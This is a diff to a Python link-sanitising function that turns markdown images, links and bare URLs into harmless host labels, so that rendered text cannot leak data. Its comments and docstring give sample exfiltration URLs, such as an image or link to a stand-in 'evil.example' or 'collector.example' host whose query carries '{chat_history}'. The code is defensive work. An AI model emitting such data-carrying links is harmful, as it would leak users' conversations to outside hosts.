@@ -59,6 +59,9 @@ _MD_LINK_RE = re.compile(r"\[([^\]\n]{0,200})\]\s*\(([^)\n]*)\)?")
 _URL_RE = re.compile(
     r"(?i)\b(?:(?:https?|ftp|wss?|file|data|javascript|vbscript):/{0,3}|www\.)[^\s<>\"')\]]*"
 )
+_BARE_URL_RE = re.compile(  # "evil.example/p?d={chat}": no scheme, but a query to carry data
+    r"(?i)\b(?:[a-z0-9-]+\.)+[a-z]{2,}(?=[/?])[^\s<>\"')\]]*[?={%@][^\s<>\"')\]]*"
+)
 _HOST_RE = re.compile(r"(?i)^(?:[a-z][a-z0-9+.-]*:/{0,3})?(?:[^@/\s]*@)?([^/?#:\s]+)")
 
 
@@ -69,14 +72,16 @@ def neutralise_links(text: str) -> str:
     carry data out: ``![a](https://collector.example/log?d=…)``); a markdown link keeps its
     text; every URL (``http``, ``data:``, ``javascript:``, ``www.`` …) becomes
     ``⟨link to host⟩``, its path and query (where leaked data would ride) dropped, so no
-    renderer or tool can follow it. Text without links comes back unchanged.
+    renderer or tool can follow it; so does a host written without a scheme whose path
+    carries a query (``evil.example/p?d={chat_history}``). Text without links comes back
+    unchanged.
     """
-    if "[" not in text and ":" not in text and "www." not in text.casefold():
+    if not any(c in text for c in "[:/?") and "www." not in text.casefold():
         return text
     text = _MD_IMAGE_RE.sub(lambda m: f"[image: {m.group(1).strip() or 'no description'}]", text)
     text = _MD_LINK_RE.sub(lambda m: f"{m.group(1)} ({m.group(2)})" if m.group(2) else m.group(0),
                            text)
-    return _URL_RE.sub(_link_host, text)
+    return _BARE_URL_RE.sub(_link_host, _URL_RE.sub(_link_host, text))
 
 
 def _link_host(url: re.Match[str]) -> str:
